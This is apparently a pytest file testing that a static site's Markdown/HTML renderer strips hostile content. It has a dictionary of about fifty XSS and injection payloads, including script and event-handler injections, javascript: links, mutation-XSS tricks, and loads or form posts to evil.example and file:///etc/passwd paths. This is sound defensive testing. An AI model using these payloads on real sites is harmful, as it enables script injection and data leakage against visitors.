"""Hostile bodies: whatever a page or a curator's file holds, the site shows words and loads nothing."""

import re
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser

from briefings.site.body import render_body

SAFE_TAGS = frozenset(
    """
    a abbr b bdi bdo blockquote br caption cite code col colgroup dd del details dfn div dl dt em figcaption figure h2
    h3 h4 h5 h6 hr i img ins kbd li mark ol p pre q rp rt ruby s samp section small span strong sub summary sup table
    tbody td tfoot th thead time tr u ul var wbr
    """.split()
)
SAFE_ATTRIBUTES = frozenset(
    """
    href rel title src alt width height loading decoding srcset sizes lang dir class id start reversed value colspan
    rowspan scope datetime open
    """.split()
)
LINK = re.compile(r"(?i)(?:https?://|mailto:|#fn|\{filename\}|\{static\}/images/)")
ATTACKS = {
    "script": "<script>alert(1)</script>",
    "script in svg": "<svg><script>alert(1)</script></svg>",
    "event": '<img src="images/a.jpg" onerror="alert(1)">',
    "event on a paragraph": "<p onclick=alert(1) onmouseover='x'>a</p>",
    "javascript link": "[a](javascript:alert(1))",
    "javascript link with tab": '<a href="java\tscript:alert(1)">a</a>',
    "javascript link in entities": '<a href="&#106;avascript:alert(1)">a</a>',
    "javascript autolink": "<javascript:alert(1)>",
    "data link": "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "data picture": "![a](data:image/svg+xml;base64,PHN2Zz4=)",
    "vbscript": '<a href="vbscript:x">a</a>',
    "style element": "<style>body{background:url(https://evil.example/a)}</style>",
    "style attribute": '<p style="background:url(https://evil.example/a)">a</p>',
    "form": '<form action="https://evil.example/"><input name=a><button>b</button></form>',
    "form action": '<button formaction="javascript:alert(1)">a</button>',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "base": '<base href="https://evil.example/">',
    "link element": '<link rel="stylesheet" href="https://evil.example/a.css">',
    "clobbering id": '<p id="search">a</p><img name="body" src="images/a.jpg">',
    "class of the theme": '<div class="masthead notice">a</div>',
    "remote picture": "![a](https://evil.example/a.jpg)",
    "remote picture without scheme": "![a](//evil.example/a.jpg)",
    "remote picture by backslash": r'<img src="\\evil.example/a.jpg">',
    "remote set": '<img src="images/a.jpg" srcset="https://evil.example/a.jpg 2x">',
    "remote source": '<picture><source srcset="https://evil.example/a.webp"><img src="images/a.jpg"></picture>',
    "frame": '<iframe src="https://evil.example/"></iframe>',
    "frame by words": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="https://evil.example/a.swf"></object><embed src="https://evil.example/b">',
    "video": '<video src="https://evil.example/a.mp4" poster="https://evil.example/a.jpg"></video>',
    "sound": '<audio src="https://evil.example/a.mp3" autoplay></audio>',
    "table background": '<table background="https://evil.example/a.png"><tr><td>a</td></tr></table>',
    "quote source": '<blockquote cite="https://evil.example/">a</blockquote>',
    "math": '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
    "broken noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "comment": "<!--><img src=x onerror=alert(1)>-->",
    "xmp": "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "template": "<template><img src=https://evil.example/a></template>",
    "textarea": "<textarea><img src=https://evil.example/a>",
    "path upwards": "![a](../../etc/passwd.jpg) ![b](/images/../saved/private.png)",
    "file address": "[a](file:///etc/passwd) ![b](file:///etc/a.png)",
    "static of another folder": "[a]({static}/saved/private.html) ![b]({static}/../a.png)",
    "ping": '<a href="https://a.example/" ping="https://evil.example/" target="_blank">a</a>',
    "image map": '<map name=a><area href="javascript:alert(1)"></map><img usemap="#a" src="images/a.jpg">',
    "footnote name": "a[^<img src=x onerror=alert(1)>]\n\n[^<img src=x onerror=alert(1)>]: b",
    "alt that breaks out": '![" onerror="alert(1)](images/a.jpg)',
    "title that breaks out": '[a](https://a.example/ "\\" onclick=\\"alert(1)")',
    "code language": '```"><img/src=x/onerror=alert(1)>\na\n```',
    "entity tag": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "template words": "{{ SITEURL }} {% include 'a' %} {static}/saved/a {attach}a.html",
    "attach": "[a]({attach}/../saved/private.html)",
    "import": '<p style="@import url(https://evil.example/a.css)">a</p>',
    "upper case": "<SCRIPT>alert(1)</SCRIPT><IMG SRC=HTTPS://EVIL.EXAMPLE/A.JPG>",
    "nul": "<scr\0ipt>alert(1)</scr\0ipt>",
}


def check_safe(html: str) -> None:
    body = LexborHTMLParser(html).body
    assert body is not None
    for node in body.css("*"):
        attributes = node.attributes
        assert node.tag in SAFE_TAGS | {"body"}, node.html
        assert attributes.keys() <= SAFE_ATTRIBUTES, node.html
        assert LINK.match(attributes.get("href") or "#fn"), node.html
        assert (attributes.get("src") or "{static}/images/").startswith("{static}/images/"), node.html
        assert ".." not in (attributes.get("src") or ""), node.html
        assert "://" not in (attributes.get("srcset") or ""), node.html
        assert re.fullmatch(r"(?:align-|footnote)[a-z-]+", attributes.get("class") or "footnotes"), node.html
        assert (attributes.get("id") or "fn-").startswith("fn"), node.html


@pytest.mark.parametrize("name", ATTACKS)
def test_nothing_runs_and_nothing_is_loaded(name: str) -> None:
    check_safe(render_body(f"First.\n\n{ATTACKS[name]}\n\nLast.\n", Path("content")))


@settings(max_examples=150, deadline=None)
@given(
    st.lists(st.sampled_from([*ATTACKS.values(), "*", "> ", "- ", "`", "\n", "[", "](", "<p ", '">', "<"]), max_size=8)
)
def test_attacks_in_any_order_are_safe(parts: list[str]) -> None:
    check_safe(render_body("".join(parts), Path("content")))


def test_a_remote_picture_is_a_link_with_its_words() -> None:
    html = render_body("![The quay](https://a.example/q.jpg)\nAt night.\n", Path("content"))
    assert html.strip() == '<p><a href="https://a.example/q.jpg" rel="noopener">The quay</a>\nAt night.</p>'


@pytest.mark.parametrize("markup", ["> " * 3_000 + "a", "<div>" * 5_000, "<b>" * 5_000 + "a", "- " * 3_000 + "a"])
def test_markup_nested_too_deep_is_cut(markup: str) -> None:
    assert "First." in render_body(f"First.\n\n{markup}", Path("content"))


def test_a_footnote_leads_to_its_note_and_back() -> None:
    html = render_body("One[^1].\n\n[^1]: The note.\n", Path("content"))
    assert ('href="#fn-1" id="fnref-1"' in html, '<li id="fn-1">' in html, 'href="#fnref-1"' in html) == (True,) * 3


def test_headings_begin_under_the_title() -> None:
    assert re.findall(r"<h\d", render_body("# One\n\n### Two\n", Path("content"))) == ["<h2", "<h4"]


def test_a_table_without_words_in_its_head_has_none() -> None:
    assert "<th" not in render_body("| | |\n|---|---|\n| a | b |\n", Path("content"))
